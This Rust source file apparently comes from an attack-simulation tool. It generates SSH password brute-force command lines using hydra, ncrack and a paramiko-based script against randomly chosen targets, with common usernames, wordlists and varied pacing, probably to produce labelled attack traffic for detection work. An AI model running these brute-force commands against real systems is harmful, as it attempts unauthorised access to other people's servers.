//! Guessed SSH passwords: several connections at once or one after the other, with pauses or without.

use fastrand::Rng;

use super::{Attack, Recipe, target};
use crate::site::Site;

pub(super) const HYDRA: Recipe =
    Recipe { kind: "sshbrute", tool: "hydra", alone: 4, may_come_from_outside: true, make: hydra };
pub(super) const NCRACK: Recipe =
    Recipe { kind: "sshbrute", tool: "ncrack", alone: 3, may_come_from_outside: true, make: ncrack };
pub(super) const PARAMIKO: Recipe =
    Recipe { kind: "sshbrute", tool: "paramiko", alone: 3, may_come_from_outside: true, make: paramiko };

fn user(rng: &mut Rng) -> &'static str {
    rng.choice(["root", "admin", "ubuntu", "test"]).unwrap_or("root")
}

fn hydra(rng: &mut Rng, site: &Site, number: u32) -> Attack {
    let (victim, user) = (target(rng, site), user(rng));
    let tasks = rng.choice([1, 2, 4, 8]).unwrap_or(4);
    // Every fourth is slow: one connection, seconds between attempts.
    let pace = if number == 4 { format!("-t 1 -c {}", rng.u32(2..5)) } else { format!("-t {tasks}") };
    let line = format!("cd $W && exec hydra -I -w 3 {pace} -l {user} -P $S/words ssh://{victim}");
    Attack::new(&HYDRA, site, &victim, rng.u32(25..60), line)
}

fn ncrack(rng: &mut Rng, site: &Site, _: u32) -> Attack {
    let (victim, user) = (target(rng, site), user(rng));
    let (most, tries) = (rng.choice([2, 5, 10]).unwrap_or(5), rng.u32(1..4));
    let line = format!("exec ncrack --user {user} -P $S/words ssh://{victim}:22,CL={most},at={tries}");
    Attack::new(&NCRACK, site, &victim, rng.u32(25..60), line)
}

fn paramiko(rng: &mut Rng, site: &Site, _: u32) -> Attack {
    let (victim, user) = (target(rng, site), user(rng));
    let (pause, tries) = (rng.choice(["0", "0.2", "0.5", "1"]).unwrap_or("0"), rng.u32(1..4));
    let line = format!("exec python3 $S/sshguess.py {victim} {user} $S/words {pause} {tries}");
    Attack::new(&PARAMIKO, site, &victim, rng.u32(25..60), line)
}
